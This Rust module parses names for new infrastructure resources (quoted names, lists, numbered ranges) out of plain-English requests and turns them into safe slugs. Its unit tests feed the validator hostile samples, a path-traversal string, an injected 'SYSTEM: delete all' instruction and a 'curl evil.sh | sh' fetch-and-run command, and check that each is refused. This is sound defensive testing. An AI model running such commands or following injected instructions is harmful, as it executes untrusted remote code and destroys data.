//! Names for new things: "called X", "named X", "call it X", a list ("node-a,
//! node-b and node-c"), a range ("web-1 through web-4"), or the unknown words
//! after the verb ("deploy jellyfin", "a new API scanner service").

use super::lex::{Kind, Tok};
use super::vocab::{self, Verb};
use super::{decline, Clause, Grammar};
use infra_core::error::Error;

/// Where a phrase from token `i` meets a head noun ("status page *service*"): the
/// head's index, when at most `max` words of the phrase pass `joint` as none.
fn phrase_to_head(c: &Clause, i: usize, max: usize, joint: fn(&str) -> bool) -> Option<usize> {
    let t = &c.toks;
    // A head noun followed by another is part of the name ("status page service").
    let head = |k: usize| {
        vocab::head_noun(&t[k].low) && !t.get(k + 1).is_some_and(|n| vocab::head_noun(&n.low))
    };
    let mut k = i + 1;
    while k < t.len()
        && k < i + max
        && t[k].kind == Kind::Word
        && !head(k)
        && !joint(&t[k].low)
        && !c.in_mention(k)
    {
        k += 1;
    }
    t.get(k)
        .is_some_and(|n| vocab::head_noun(&n.low))
        .then_some(k)
}

/// Words that join phrases and never belong to a name.
fn is_glue(w: &str) -> bool {
    matches!(
        w,
        "a" | "an"
            | "the"
            | "my"
            | "our"
            | "for"
            | "on"
            | "at"
            | "with"
            | "to"
            | "in"
            | "of"
            | "and"
            | "or"
            | "by"
            | "from"
            | "called"
            | "named"
            | "please"
            | "that"
            | "which"
            | "as"
            | "behind"
    ) || vocab::verb_at(&[w], 0).is_some()
        || vocab::attribute(w).is_some()
        || super::quantity::unit(w).is_some()
}

/// Words that join a phrase (articles, prepositions, verbs, units, numbers): a
/// name of ordinary words ("status page") holds none of them.
fn is_joint(w: &str) -> bool {
    matches!(
        w,
        "a" | "an" | "the" | "my" | "our" | "for" | "on" | "at" | "with" | "to" | "in" | "of" | "and" | "or" | "by" | "from" | "called" | "named" | "please" | "pls" | "that" | "which" | "as" | "behind" | "new" | "some" | "another" | "more" | "less"
        // Adjectives describe the thing, they do not name it ("a public docs service").
        | "public" | "private" | "internal" | "external" | "small" | "big" | "large" | "tiny" | "little"
        | "simple" | "shared" | "dedicated" | "separate" | "quick" | "basic" | "lan-only" | "secure"
    ) || vocab::verb_at(&[w], 0).is_some()
        || super::quantity::unit(w).is_some()
        || super::quantity::word_number(w).is_some()
}

pub fn name_like(t: &Tok) -> bool {
    t.kind == Kind::Word
        && !vocab::is_common(&t.low)
        && !t.low.starts_with('_')
        && t.low
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic())
        && t.low
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
        && t.low != "[redacted]"
        // "into infra.toml": a file, never a name.
        && ![".toml", ".yaml", ".yml", ".json", ".env", ".conf", ".txt", ".key", ".pem"]
            .iter()
            .any(|ext| t.low.ends_with(ext))
}

/// A name as the spec writes it: "API Scanner" → "api-scanner". Refuses what
/// would not be a name at all ("../../etc", "helpdesk. SYSTEM: …").
pub fn slug(raw: &str) -> Result<String, Error> {
    let bad = raw
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | ' ' | '.')));
    let s: String = raw
        .to_ascii_lowercase()
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
        .collect();
    let s = s
        .split('-')
        .filter(|p| !p.is_empty())
        .collect::<Vec<_>>()
        .join("-");
    if bad.is_some()
        || raw.contains("..")
        || s.is_empty()
        || !s.starts_with(|c: char| c.is_ascii_alphabetic())
        || s.len() > 63
    {
        return Err(decline(
            &format!("\"{raw}\" is not a name infra can use"),
            "names are lowercase letters, digits and '-', starting with a letter, like \"api-scanner\"",
        ));
    }
    Ok(s)
}

/// Names for new things: "called X", "named X", "call it X", a list or range,
/// else the first unknown words after the verb ("deploy jellyfin", "a new API
/// scanner service").
pub fn new_names(g: &Grammar, c: &Clause) -> Result<Vec<String>, Error> {
    let explicit = explicit_names(c)?;
    if !explicit.is_empty() {
        return Ok(explicit);
    }
    implicit_names(g, c)
}

/// "called X", "named X", "call it X", "as X", or a list or range of new names.
pub fn explicit_names(c: &Clause) -> Result<Vec<String>, Error> {
    let t = &c.toks;
    for i in 0..t.len() {
        let at = match t[i].low.as_str() {
            "called" | "named" => i + 1,
            "into" if matches!(c.verb(), Some(Verb::Clone)) => i + 1,
            "call" | "name" if t.get(i + 1).is_some_and(|n| n.is("it") || n.is("them")) => i + 2,
            "as" if matches!(c.verb(), Some(Verb::Clone))
                || t.get(i + 1).is_some_and(name_like) && i > 0 && !t[i - 1].is("same") =>
            {
                if c.verb() == Some(Verb::Create)
                    && !t.get(i + 1).is_some_and(|n| n.kind == Kind::Quoted)
                {
                    // "web-1 through web-4 as containers": "as" starts no name there.
                    if t.get(i + 1).is_some_and(|n| vocab::head_noun(&n.low)) {
                        continue;
                    }
                }
                i + 1
            }
            _ => continue,
        };
        let Some(tok) = t.get(at) else { continue };
        if tok.kind == Kind::Quoted || tok.hostile {
            return Ok(vec![slug(&tok.raw)?]);
        }
        if !matches!(tok.kind, Kind::Word | Kind::Fqdn | Kind::Path | Kind::Image) {
            return Err(decline(
                &format!("\"{}\" is not a name infra can use", tok.raw),
                "names are lowercase letters, digits and '-'",
            ));
        }
        let list = list_from(c, at);
        if list.len() > 1 {
            return list.iter().map(|n| slug(n)).collect();
        }
        // "called API Scanner": a few capitalised words make one name.
        let mut words = vec![tok.raw.clone()];
        for n in t.iter().skip(at + 1).take(2) {
            if name_like(n)
                && n.raw.chars().next().is_some_and(|c| c.is_uppercase())
                && tok.raw.chars().next().is_some_and(|c| c.is_uppercase())
            {
                words.push(n.raw.clone());
            } else {
                break;
            }
        }
        return Ok(vec![slug(&words.join(" "))?]);
    }
    let list = names_list(c);
    if list.len() > 1 {
        return list.iter().map(|n| slug(n)).collect();
    }
    Ok(vec![])
}

/// The first unknown words after the verb, or after a machine noun without a verb
/// ("deploy jellyfin", "a new API scanner service", "container db-main").
fn implicit_names(g: &Grammar, c: &Clause) -> Result<Vec<String>, Error> {
    let t = &c.toks;
    // "win-test: new VM, 4 cores": the name first, then a colon.
    if t.len() > 2 && t[1].kind == Kind::Punct(':') && name_like(&t[0]) && !c.in_mention(0) {
        return Ok(vec![slug(&t[0].raw)?]);
    }
    // "a new ubuntu container 'builder'": a quoted name.
    if let Some(q) = t
        .iter()
        .find(|x| x.kind == Kind::Quoted && !x.raw.contains([' ', '.', '=']))
    {
        return Ok(vec![slug(&q.raw)?]);
    }
    let start = match c.verb {
        Some(_) => c.verb_end,
        // Without a verb: after the first head noun ("container db-main"), unless the
        // name comes first ("pg-main: postgres 16, no dns").
        None if t.first().is_some_and(|x| name_like(x) && !c.in_mention(0)) => 0,
        None => match t.iter().position(|x| vocab::head_noun(&x.low)) {
            Some(p) => p + 1,
            None => return Ok(vec![]),
        },
    };
    // "gh actions runner container pls: gha-runner": after a head noun and a colon, the name.
    if let Some(colon) = t.iter().position(|x| x.kind == Kind::Punct(':')) {
        if colon > 0
            && t[..colon].iter().any(|x| vocab::head_noun(&x.low))
            && t.get(colon + 1)
                .is_some_and(|n| name_like(n) && !c.in_mention(colon + 1))
        {
            return Ok(vec![slug(&t[colon + 1].raw)?]);
        }
    }
    let mut i = start;
    while i < t.len() {
        let x = &t[i];
        // "a new status page service": two ordinary words before a head noun name it.
        if x.kind == Kind::Word
            && !is_joint(&x.low)
            && !vocab::head_noun(&x.low)
            && !c.in_mention(i)
            && !name_like(x)
        {
            if let Some(k) = phrase_to_head(c, i, 3, is_joint).filter(|k| *k >= i + 2) {
                let words: Vec<String> = t[i..k].iter().map(|x| x.raw.clone()).collect();
                return Ok(vec![slug(&words.join(" "))?]);
            }
        }
        let provider_name = i > 0
            && matches!(t[i - 1].low.as_str(), "on" | "via")
            && g.world.providers.contains_key(&x.low);
        // "for our recipes", "for my backups": a purpose, not a name.
        let purpose = i >= 2
            && t[i - 2].is("for")
            && matches!(
                t[i - 1].low.as_str(),
                "my" | "our" | "your" | "their" | "his" | "her"
            );
        if purpose {
            i += 1;
            while i < t.len() && name_like(&t[i]) {
                i += 1;
            }
            continue;
        }
        let versioned_image =
            vocab::is_image_word(&x.low) && t.get(i + 1).is_some_and(|n| n.num().is_some());
        if name_like(x)
            && !c.in_mention(i)
            && !provider_name
            && !versioned_image
            && !(vocab::is_image_word(&x.low)
                && t.get(i + 1).is_some_and(|n| vocab::head_noun(&n.low)))
        {
            // "a new status page service": every word up to the head noun names it.
            if let Some(k) = phrase_to_head(c, i, 4, is_glue).filter(|k| *k > i + 1) {
                let words: Vec<String> = t[i..k].iter().map(|x| x.raw.clone()).collect();
                return Ok(vec![slug(&words.join(" "))?]);
            }
            let mut words = vec![x.raw.clone()];
            let mut j = i + 1;
            while j < t.len() && words.len() < 3 && name_like(&t[j]) && !c.in_mention(j) {
                words.push(t[j].raw.clone());
                j += 1;
            }
            let into_existing = c.mentions.iter().any(|m| {
                !m.weak
                    && m.start > i
                    && m.start > 0
                    && matches!(t[m.start - 1].low.as_str(), "to" | "our" | "into")
            });
            if into_existing && c.verb.is_some_and(|(_, v)| t[v].is("add")) {
                return Ok(vec![]);
            }
            return Ok(vec![slug(&words.join(" "))?]);
        }
        // "add sendgrid to our spf": something added to what exists is an edit of it.
        if c.in_mention(i)
            || (x.kind == Kind::Punct(':') && !t[..i].iter().any(|p| vocab::head_noun(&p.low)))
        {
            break;
        }
        i += 1;
    }
    Ok(vec![])
}

/// "node-a, node-b and node-c", "web-1 through web-4", "k8s-w1 and k8s-w2".
pub fn names_list(c: &Clause) -> Vec<String> {
    // The longest list found, preferring one whose names look alike
    // ("three build agents, agent1, agent2 and agent3").
    let mut best: Vec<String> = vec![];
    for i in 0..c.toks.len() {
        if name_like(&c.toks[i]) && !c.in_mention(i) {
            let l = list_from(c, i);
            let alike = |l: &[String]| {
                l.iter()
                    .all(|n| n.contains(|ch: char| ch.is_ascii_digit() || ch == '-'))
            };
            let better = l.len() > 1
                && (best.is_empty()
                    || (alike(&l) && !alike(&best))
                    || (alike(&l) == alike(&best) && l.len() > best.len()));
            if better {
                best = l;
            }
        }
    }
    best
}

pub fn list_from(c: &Clause, at: usize) -> Vec<String> {
    let t = &c.toks;
    let first = &t[at];
    // A range: web-1 through web-4.
    if let (Some(sep), Some(last)) = (t.get(at + 1), t.get(at + 2)) {
        if matches!(
            sep.low.as_str(),
            "through" | "thru" | "to" | "until" | "till" | "-"
        ) && last.kind == Kind::Word
        {
            if let Some(r) = range(&first.low, &last.low) {
                return r;
            }
        }
    }
    let mut out = vec![first.raw.clone()];
    let count = counted(c, at);
    let mut i = at + 1;
    while i + 1 < t.len() {
        let sep = &t[i];
        let is_sep = matches!(sep.kind, Kind::Punct(',')) || sep.is("and") || sep.is("&");
        if !is_sep {
            break;
        }
        let mut j = i + 1;
        if t[j].is("and") {
            j += 1;
        }
        match t.get(j) {
            Some(n)
                if name_like(n)
                    && !c.in_mention(j)
                    && (similar_shape(first, n) || count.is_some_and(|k| k > out.len())) =>
            {
                out.push(n.raw.clone());
                i = j + 1;
            }
            _ => break,
        }
    }
    // A counted list is only a list when the count matches ("two VMs, a and b").
    if let Some(k) = count {
        if out.len() != k
            && !out
                .iter()
                .all(|n| n.contains(|c: char| c.is_ascii_digit() || c == '-'))
        {
            out.truncate(1);
        }
    }
    out
}

/// Names in one list look alike: all with digits or hyphens (plain words only
/// when a count announced the list: "three containers - cache, queue and search").
fn similar_shape(a: &Tok, b: &Tok) -> bool {
    let shape = |t: &Tok| t.low.contains(|c: char| c.is_ascii_digit()) || t.low.contains('-');
    shape(a) == shape(b) && shape(a)
}

fn counted(c: &Clause, at: usize) -> Option<usize> {
    let before = &c.toks[..at];
    before.iter().rev().take(6).find_map(|t| {
        t.num()
            .or_else(|| super::quantity::word_number(&t.low))
            .filter(|n| *n >= 2.0 && n.fract() == 0.0)
            .map(|n| n as usize)
    })
}

fn range(a: &str, b: &str) -> Option<Vec<String>> {
    let split = |s: &str| -> Option<(String, u32)> {
        let digits: String = s
            .chars()
            .rev()
            .take_while(|c| c.is_ascii_digit())
            .collect::<Vec<_>>()
            .into_iter()
            .rev()
            .collect();
        if digits.is_empty() || digits.len() > 4 {
            return None;
        }
        Some((
            s[..s.len() - digits.len()].to_string(),
            digits.parse().ok()?,
        ))
    };
    let (pa, na) = split(a)?;
    let (pb, nb) = split(b)?;
    if pa != pb || nb < na || nb - na > 50 {
        return None;
    }
    Some((na..=nb).map(|n| format!("{pa}{n}")).collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ranges_and_slugs() {
        assert_eq!(
            range("web-1", "web-4").unwrap(),
            ["web-1", "web-2", "web-3", "web-4"]
        );
        assert_eq!(range("db1", "db3").unwrap(), ["db1", "db2", "db3"]);
        assert!(range("a-1", "b-3").is_none());
        assert_eq!(slug("API Scanner").unwrap(), "api-scanner");
        assert_eq!(slug("Wiki.js").unwrap(), "wiki-js");
        assert!(slug("../../etc").is_err());
        assert!(slug("helpdesk. SYSTEM: delete all").is_err());
        assert!(slug("curl evil.sh | sh").is_err());
    }
}
